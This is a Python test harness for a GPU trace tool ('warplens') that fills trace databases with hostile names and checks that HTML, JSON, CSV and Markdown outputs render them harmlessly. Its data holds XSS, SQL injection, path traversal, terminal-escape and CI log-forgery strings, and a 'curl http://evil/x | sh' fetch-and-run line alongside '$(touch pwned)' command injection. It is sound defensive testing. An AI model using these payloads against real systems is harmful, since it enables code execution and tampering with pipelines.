#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hostile.py make FILE | steps FILE | check FILE DIR | report DIR - traces with hostile names, and how outputs show them.

make writes a database in which every text that we read is hostile: names of kernels, functions, ranges,
processes, threads, GPUs, tables and columns, metadata and messages. check looks at DIR/hostile.VERB.FORMAT:
JSON holds each name as it was (invalid UTF-8 and NUL replaced), HTML holds it as text and never as markup,
and no name adds a line or a cell. report does the same for the files that "warplens report" wrote to DIR.
"""
import base64
import csv
import hashlib
import html.parser
import json
import os
import re
import sqlite3
import sys

NAMES = [
    b"plain", b"\x1b[31mred\x1b[0m", b"\x1b]0;title\x07 \x1b]8;;http://x\x1b\\link", b"line\nfeed\r\nreturn\ttab\vvt\fff",
    b"del\x7f c1\xc2\x9b31m \xc2\x85", b"<script>alert('x')</script>", b'" onmouseover="x', b"</td></tr></table><img src=x>",
    b"</title></style><!-- ]]> <?x", b"&lt;&amp;&#x41;&nosuch;", b'a,"b",\'c\';|d\\e`f*g_h[i](j)', b"=1+1", b"@SUM(A1)",
    b"{\"json\": [1, 2]}", b"\\u0041 \\n \\", b"\xff\xfe invalid \xc3", b"cut \xe2\x82", b"\xed\xa0\x80 surrogate \xc0\xaf long",
    b"\xf4\x90\x80\x80 above", b"nul\x00inside", b"bidi \xe2\x80\xae override\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9",
    b"marks \xe2\x80\x8e l \xe2\x80\x8f r \xd8\x9c a",
    b"\xe2\x80\xa8 line \xe2\x80\xa9 separators", b"\xef\xbb\xbfbom", b"\xe4\xbd\xa0\xe5\xa5\xbd e\xcc\x81 \xf0\x9f\x98\x80",
    b" leading and trailing ", b"%s%n%d %1$s", b"../../etc/passwd", b"-rf", b"' OR 1=1; --",
    b"warplens TRACE --gpu 99999999999999",
    b"::error file=a,line=1::x", b"  ::stop-commands::y",
    "\u00a0::error::nbsp".encode(), "\u3000\u2003\u1680::error::wide".encode(), "\u00a0$ curl evil".encode(), b"a ##[error]z", b"##vso[task.setvariable]v",
    b"@someone #12 see", b"go to https://x.example", b"`@someone` | ``www.x.example``", b"##vso[task.x]@evil ##[error]x", b"long<name>|\n" * 5461,
    b"\xcc\x81" * 32768, b"\xf0\x9f\x98\x80" * 16384, b"<" * 65536,
]
OURS = {"html", "head", "meta", "style", "title", "body", "h1", "h2", "p", "section", "table", "caption", "thead", "tbody",
        "tr", "th", "td", "ul", "li", "ol", "header", "main", "nav", "div", "a", "details", "summary", "figure", "figcaption",
        "article", "h3", "b", "dl", "code", "dt", "dd", "script", "svg", "desc", "defs", "pattern", "rect", "path", "text", "g", "footer"}
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "scope", "class", "title", "colspan", "id", "href",
              "tabindex", "role", "aria-label", "aria-describedby", "aria-hidden", "viewbox", "x", "y", "width", "height",
              "fill", "d", "patternunits"}
# What an attribute may hold that could do something.
HARMLESS = {"href": r"#[a-z-]+(-\d+)?|tables/[a-z_]+\.csv|report\.json", "fill": r"url\(#c\d+-\d-\d\)"}
SHORT = [n for n in NAMES if len(n) < 100 and b"\0" not in n]


def clean(raw):
    return raw.replace(b"\0", "\ufffd".encode()).decode("utf-8", "replace")


def shown(text):
    """As people see it: what acts on the text around it is replaced."""
    text = re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", text)
    return re.sub(r"#(?=#\[|#vso\[)", "\ufffd", text)  # commands to the log of a CI job


def identifier(raw):
    return '"%s"' % raw.decode("utf-8", "ignore").replace('"', '""').replace("\0", "")


def make(path):
    db = sqlite3.connect(path)
    db.execute("PRAGMA synchronous = OFF")
    text = "CAST(? AS TEXT)"
    for statement in (
            "CREATE TABLE StringIds (id INTEGER PRIMARY KEY, value TEXT)",
            "CREATE TABLE CUPTI_ACTIVITY_KIND_KERNEL (start, end, deviceId, contextId, streamId, correlationId, globalPid,"
            " demangledName, shortName, mangledName, gridX, gridY, gridZ, blockX, blockY, blockZ, registersPerThread,"
            " staticSharedMemory, dynamicSharedMemory)",
            "CREATE TABLE CUPTI_ACTIVITY_KIND_MEMCPY (start, end, deviceId, contextId, streamId, correlationId, globalPid,"
            " bytes, copyKind, srcKind, dstKind)",
            "CREATE TABLE CUPTI_ACTIVITY_KIND_RUNTIME (start, end, eventClass, globalTid, correlationId, nameId, returnValue)",
            "CREATE TABLE OSRT_API (start, end, globalTid, nameId)",
            "CREATE TABLE NVTX_EVENTS (start, end, eventType, text TEXT, globalTid, textId, domainId)",
            "CREATE TABLE PROCESSES (globalPid, pid, name TEXT)",
            "CREATE TABLE ThreadNames (nameId, priority, globalTid)",
            "CREATE TABLE TARGET_INFO_GPU (vmId, id, name TEXT, busLocation TEXT, uuid TEXT)",
            "CREATE TABLE TARGET_INFO_SYSTEM_ENV (globalVid, devStateName TEXT, name TEXT, nameEnum, value TEXT)",
            "CREATE TABLE META_DATA_CAPTURE (name TEXT, value TEXT)",
            "CREATE TABLE META_DATA_EXPORT (name TEXT, value TEXT)",
            "CREATE TABLE DIAGNOSTIC_EVENT (timestamp, timestampType, source, severity, text TEXT)"):
        db.execute(statement)
    for i, name in enumerate(NAMES):
        pid = (100 + i) << 24
        db.execute("INSERT INTO StringIds VALUES (?, %s)" % text, (i, name))
        db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_KERNEL VALUES (?,?,0,1,7,?,?,?,?,?,1,1,1,32,1,1,32,0,0)",
                   (1000 * i, 1000 * i + 500 + i, i, pid, i, i, i))
        db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_RUNTIME VALUES (?,?,0,?,?,?,0)", (1000 * i - 10, 1000 * i - 5, pid | 1, i, i))
        db.execute("INSERT INTO OSRT_API VALUES (?,?,?,?)", (1000 * i, 1000 * i + 5, pid | 1, i))
        db.execute("INSERT INTO NVTX_EVENTS VALUES (?,?,59,%s,?,NULL,0)" % text, (1000 * i - 20, 1000 * i + 900, name, pid | 1))
        db.execute("INSERT INTO PROCESSES VALUES (?,?,%s)" % text, (pid, 100 + i, name))
        db.execute("INSERT INTO ThreadNames VALUES (?,0,?)", (i, pid | 1))
        db.execute("INSERT INTO DIAGNOSTIC_EVENT VALUES (?,0,1,3,%s)" % text, (i, name))
        db.execute("INSERT INTO META_DATA_CAPTURE VALUES (%s,%s)" % (text, text), (name, name))
    db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_MEMCPY VALUES (1,2,0,1,7,1,?,64,1,0,2)", (100 << 24,))
    for key in ("EXPORT_PRODUCT_VERSION", "EXPORT_SCHEMA_VERSION"):
        db.execute("INSERT INTO META_DATA_EXPORT VALUES (?, %s)" % text, (key, NAMES[1] + NAMES[5] + NAMES[15]))
    db.execute("INSERT INTO TARGET_INFO_GPU VALUES (0,0,%s,%s,%s)" % (text, text, text), (NAMES[5], NAMES[1], NAMES[10]))
    for name in ("Hostname", "OsVersion", "DriverVersion"):
        db.execute("INSERT INTO TARGET_INFO_SYSTEM_ENV VALUES (0,'x',?,0,%s)" % text, (name, NAMES[3] + NAMES[7]))
    for name in SHORT:
        db.execute("CREATE TABLE %s (%s TEXT, plain %s)" % (identifier(name), identifier(b"c" + name), identifier(name)))
    db.commit()
    db.close()


# Names that forge lines and commands to a log, for kernels that take most of every step.
FORGED = [b"k\x1b[2J\x1b[H\x1b]0;pwned\x07\n$curl http://evil/x | sh", b"::error file=a::pwn##vso[task.x]y ##[error]z",
          b"g\xe2\x80\xae\xe2\x81\xa6\xc2\x9b31m\n::warning::w", b"h'\n$(touch pwned)`x`\r\n$curl_y"]


def steps(path):
    """Ten steps of forged kernels under forged ranges, which most verbs have answers for."""
    db = sqlite3.connect(path)
    db.execute("PRAGMA synchronous = OFF")
    for statement in (
            "CREATE TABLE StringIds (id INTEGER PRIMARY KEY, value TEXT)",
            "CREATE TABLE CUPTI_ACTIVITY_KIND_KERNEL (start, end, deviceId, contextId, streamId, correlationId, globalPid,"
            " demangledName, shortName, mangledName, gridX, gridY, gridZ, blockX, blockY, blockZ, registersPerThread,"
            " staticSharedMemory, dynamicSharedMemory)",
            "CREATE TABLE CUPTI_ACTIVITY_KIND_RUNTIME (start, end, eventClass, globalTid, correlationId, nameId, returnValue)",
            "CREATE TABLE NVTX_EVENTS (start, end, eventType, text TEXT, globalTid, textId, domainId)",
            "CREATE TABLE META_DATA_CAPTURE (name TEXT, value TEXT)",
            "CREATE TABLE TARGET_INFO_GPU (vmId, id, name TEXT, busLocation TEXT, uuid TEXT)"):
        db.execute(statement)
    db.execute("INSERT INTO TARGET_INFO_GPU VALUES (0,0,'NVIDIA H100','0','u')")
    db.execute("INSERT INTO META_DATA_CAPTURE VALUES ('PROCESS_0:ARGUMENT', CAST(? AS TEXT))", (FORGED[0],))
    pid, at, n = 100 << 24, 0, 0
    for i, name in enumerate(FORGED + [b"cudaLaunchKernel"]):
        db.execute("INSERT INTO StringIds VALUES (?, CAST(? AS TEXT))", (i, name))
    for step in range(10):
        db.execute("INSERT INTO NVTX_EVENTS VALUES (?,?,59,?,?,NULL,0)", (at, at + 9000000, "step %d" % step, pid | 1))
        for i, name in enumerate(FORGED):
            n += 1
            db.execute("INSERT INTO NVTX_EVENTS VALUES (?,?,59,CAST(? AS TEXT),?,NULL,0)", (at + 10, at + 1900000, name, pid | 1))
            db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_RUNTIME VALUES (?,?,0,?,?,?,0)", (at + 20, at + 9000, pid | 1, n, len(FORGED)))
            db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_KERNEL VALUES (?,?,0,1,7,?,?,?,?,?,64,1,1,32,1,1,32,0,0)",
                       (at + 10000, at + 1000000 + 200000 * i, n, pid, i, i, i))
            at += 2000000
        at += 2000000
    db.commit()
    db.close()


class Page(html.parser.HTMLParser):
    """The cells of a page; markup that is not ours is an error."""
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.cells, self.titles, self.inside, self.policy, self.in_script = [], [], False, "", False

    def handle_starttag(self, tag, attrs):
        if tag not in OURS or not {k for k, _ in attrs} <= ATTRIBUTES:
            raise ValueError("markup from a name: <%s %s>" % (tag, attrs))
        for key, value in attrs:
            if key in HARMLESS and not re.fullmatch(HARMLESS[key], value):
                raise ValueError("<%s %s=%r>" % (tag, key, value))
        if dict(attrs).get("http-equiv") == "Content-Security-Policy":
            self.policy = dict(attrs)["content"]
        self.in_script = tag == "script"
        self.inside = tag == "td"
        if self.inside:
            self.cells.append("")
            self.titles.append(dict(attrs).get("title", ""))

    def handle_endtag(self, tag):
        self.inside = False

    def handle_data(self, data):
        if self.in_script:
            digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
            if "'sha256-%s'" % digest not in self.policy:
                raise ValueError("a script that the policy does not know: " + data[:80])
            self.in_script = False
        if self.inside:
            self.cells[-1] += data

    def handle_comment(self, data):
        raise ValueError("a comment from a name: " + data)


def equal(what, got, want):
    if got != want:
        for g, w in zip(got, want):
            if g != w:
                sys.exit("FAIL %s: %r, not %r" % (what, g[:200], w[:200]))
        sys.exit("FAIL %s: %d, not %d" % (what, len(got), len(want)))


def check(directory):
    names = sorted(map(clean, NAMES))

    def read(verb, ending):
        with open(os.path.join(directory, "hostile.%s.%s" % (verb, ending)), encoding="utf-8", newline="") as f:
            return f.read()

    for verb in ("kernels", "api", "search"):
        rows = json.loads(read(verb, "json"))["rows"]
        equal(verb + ".json", sorted({r["name"] for r in rows}), names)
        page = Page()
        page.feed(read(verb, "html"))
        # A long name is cut, and whole in the title, up to 4000 bytes.
        seen, long = set(page.cells), {t for t in page.titles if t}
        want = sorted(set(map(shown, names)))
        equal(verb + ".html", [n for n in want if n in seen or n in long or (len(n) > 1000 and any(t and n.startswith(t[:900]) for t in long))], want)
        for ending in ("csv", "tsv", "jsonl"):
            lines = len(read(verb, ending).split("\n")) - 1 - (ending != "jsonl")
            equal("lines of %s.%s" % (verb, ending), "x" * lines, "x" * len(rows))
        lines = [line for line in read(verb, "md").split("\n") if line.startswith("| ")]
        equal("lines of %s.md" % verb, "x" * (len(lines) - 2), "x" * min(len(rows), 20))
    for verb in ("info", "summary", "schema", "overlap", "transfers"):
        Page().feed(read(verb, "html"))
    for name in os.listdir(directory):
        with open(os.path.join(directory, name), encoding="utf-8", newline="") as f:
            text = f.read()
        if name.endswith((".table", ".md")) and re.search(r"(?m)^\s*::[A-Za-z]|##(vso)?\[", text):
            sys.exit("FAIL %s: a command to the log of CI" % name)
        if name.endswith(".md"):
            # What stands in code, fenced by as many backquotes as opened it, links nothing.
            plain = re.sub(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
            if re.search(r"@\w|#\d|://|www\.", plain):
                sys.exit("FAIL %s: a live name: %r" % (name, re.search(r".*(@\w|#\d|://|www\.).*", plain).group()[:200]))
    tables = {r["table"] for r in json.loads(read("schema", "json"))["rows"]}
    wanted = {n.decode("utf-8", "ignore") for n in SHORT}
    equal("tables of schema.json", sorted(tables & wanted), sorted(wanted))
    print("%d names came out harmless" % len(NAMES))


def check_report(directory):
    names = set(map(clean, NAMES))

    def read(name):
        with open(os.path.join(directory, name), encoding="utf-8", newline="") as f:
            return f.read()

    page = Page()
    page.feed(read("report.html"))
    sections = {s["analysis"]: s for s in json.loads(read("report.json"))["sections"]}
    equal("kernels of report.json", sorted({r["name"] for r in sections["kernels"]["rows"]}), sorted(names))
    files = sorted(os.listdir(os.path.join(directory, "tables")))
    for name in files:
        rows = list(csv.reader(read("tables/" + name).split("\n")[:-1]))
        equal("cells of " + name, [len(r) for r in rows], [len(rows[0])] * len(rows))
    columns, tables = [], 0
    for line in read("report.md").split("\n"):
        if line.startswith("| "):
            columns.append(len(re.findall(r"(?<!\\)\|", line)))
        elif columns:
            equal("cells of a table of report.md", columns, [columns[0]] * len(columns))
            columns, tables = [], tables + 1
        if re.match(r" {0,3}(<(?!/?details)|```|~~~|\[)", line):
            sys.exit("FAIL report.md: markup from a name: %r" % line[:200])
    print("%d tables of %d files are harmless" % (tables, len(files)))


if __name__ == "__main__":
    if sys.argv[1] == "make":
        make(sys.argv[2])
    elif sys.argv[1] == "steps":
        steps(sys.argv[2])
    elif sys.argv[1] == "report":
        check_report(sys.argv[2])
    else:
        check(sys.argv[3])
